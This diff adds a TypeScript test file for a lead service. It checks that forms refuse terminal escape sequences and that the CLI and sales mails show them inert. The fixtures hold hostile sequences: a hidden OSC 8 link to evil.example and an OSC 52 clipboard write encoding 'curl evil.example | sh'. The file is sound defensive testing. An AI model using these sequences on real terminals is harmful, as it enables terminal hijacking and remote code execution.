@@ -1,0 +1,129 @@
+/**
+ * Stories of text built to attack the people who read leads: terminal escape sequences (window titles,
+ * cleared screens, hidden OSC 8 links, OSC 52 clipboard writes) typed into a form or served in a website's
+ * JSON-LD, and kilobyte-long JSON-LD types. The forms refuse control characters; whatever reaches the operator
+ * CLI or a team mail anyway (an older row, a fetched page) is shown as text, never obeyed, and stays short.
+ */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { hasControlCharacter } from '@sichtwerk/forms/text-rules';
+import { runCli } from '../src/cli/run-cli.ts';
+import { expectErrorAnswer } from './support/error-answer.ts';
+import { healthyHome, startFixtureSite, type FixtureSite } from './support/fixture-site.ts';
+import { validContactMessage } from './support/form-bodies.ts';
+import { startSmtpSink, type SmtpSink } from './support/smtp-sink.ts';
+import { createTestDatabase, type TestDatabase } from './support/test-database.ts';
+import { salesEmail, startTestService, validRequest, type TestService } from './support/test-service.ts';
+import { waitFor } from './support/wait-for.ts';
+
+const escapes = {
+  title: '\u001b]0;Sie wurden gehackt\u0007',
+  clear: '\u001b[2J',
+  link: '\u001b]8;;https://evil.example\u001b\\hier klicken\u001b]8;;\u001b\\',
+  clipboard: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
+  c1: '\u009b31m',
+};
+const longType = `LocalBusiness${'X'.repeat(5_000)}`;
+
+let site: FixtureSite;
+let db: TestDatabase;
+let smtp: SmtpSink;
+let service: TestService;
+
+beforeAll(async () => {
+  const phone = '030 9876543';
+  const home = healthyHome(phone).replace(
+    '"@type":"Plumber"',
+    `"@type":["Plumber ${escapes.clipboard.replace('\u001b', '\\u001b').replace('\u0007', '\\u0007')}","${longType}"]`,
+  );
+  site = await startFixtureSite({ '/': { body: home } });
+  db = await createTestDatabase();
+  smtp = await startSmtpSink();
+  service = await startTestService({
+    databaseUrl: db.url,
+    smtpUrl: smtp.url,
+    env: { WEBSITE_CHECK_CONCURRENCY: '1', WEBSITE_CHECK_WAIT_MS: '5000', WEBSITE_CHECK_ALLOW_HOSTS: site.hostPort },
+  });
+});
+
+afterAll(async () => {
+  await service?.close();
+  await smtp?.close();
+  await db?.drop();
+  await site?.close();
+});
+
+const cliEnv = () => ({
+  ...process.env,
+  DATABASE_URL: db.url,
+  REDIS_URL: service.config.redisUrl,
+  QUEUE_PREFIX: service.config.queuePrefix,
+  LOG_LEVEL: 'silent',
+});
+
+async function cli(...argv: string[]): Promise<string> {
+  let out = '';
+  const io = { out: (text: string) => (out += text), err: (text: string) => (out += text) };
+  await runCli(argv, cliEnv(), io);
+  return out;
+}
+
+describe('when someone types terminal escape sequences into a form', () => {
+  it.each(Object.entries(escapes))('then a name with a %s sequence is refused in German and nothing is stored', async (_name, sequence) => {
+    const before = (await db.pool.query('SELECT count(*)::int AS n FROM contact_messages')).rows[0].n as number;
+    const error = await expectErrorAnswer(
+      await service.postTo('/api/contact-messages', { ...validContactMessage, name: `Anna ${sequence}` }),
+      400,
+      'VALIDIERUNG_FEHLGESCHLAGEN',
+    );
+    expect(JSON.stringify(error)).toContain('Steuerzeichen');
+    expect((await db.pool.query('SELECT count(*)::int AS n FROM contact_messages')).rows[0].n).toBe(before);
+  });
+
+  it('then a message with line breaks and a tab (as a textarea sends it) is still accepted', async () => {
+    const response = await service.postTo('/api/contact-messages', {
+      ...validContactMessage,
+      message: 'Hallo,\r\n\r\nPreise:\tbitte schicken',
+    });
+    expect(response.status).toBe(201);
+  });
+});
+
+describe('when an older row holds escape sequences and the operator looks at it', () => {
+  it('then `leads list` and `leads show` print them as visible text, not as commands for the terminal', async () => {
+    const hostile = Object.values(escapes).join(' ');
+    const { rows } = await db.pool.query<{ id: string }>(
+      'INSERT INTO contact_messages (name, email, message, submitted_at) VALUES ($1, $2, $3, now()) RETURNING id',
+      [`Anna ${hostile}`, 'anna.escape@example.de', `Zeile 1\r\nZeile 2 ${hostile}`],
+    );
+    const id = rows[0]!.id;
+    const list = await cli('list', '--kind', 'contact-messages');
+    const show = await cli('show', id);
+    for (const output of [list, show]) {
+      expect(hasControlCharacter(output, true)).toBe(false);
+      expect(output).toContain('\\x1B]0;Sie wurden gehackt\\x07');
+    }
+    expect(show).toContain('\\x1B]52;c;');
+    expect(show).toContain('Zeile 2');
+  });
+});
+
+describe('when the website named in an analysis request serves escape sequences and a 5,000-character type in its JSON-LD', () => {
+  it('then the sales mail and `leads show` carry neither raw control characters nor the long type', async () => {
+    const response = await service.post({ ...validRequest, website: site.url, phone: '030 9876543', company: 'JSON-LD Test' });
+    expect(response.status).toBe(201);
+    const { id } = (await response.json()) as { id: string };
+    const notification = await waitFor(
+      'sales notification with the check',
+      () => smtp.to(salesEmail).find((mail) => mail.parsed.messageId?.includes(id) && mail.parsed.text?.includes('Website-Schnellcheck')),
+      20_000,
+    );
+    const text = notification.parsed.text ?? '';
+    expect(text).toContain('Strukturierte Daten als Plumber');
+    expect(hasControlCharacter(text, true)).toBe(false);
+    expect(hasControlCharacter(notification.parsed.html ?? '', true)).toBe(false);
+    expect(text).not.toContain('X'.repeat(200));
+    const show = await cli('show', id);
+    expect(hasControlCharacter(show, true)).toBe(false);
+    expect(show).not.toContain('X'.repeat(200));
+  });
+});
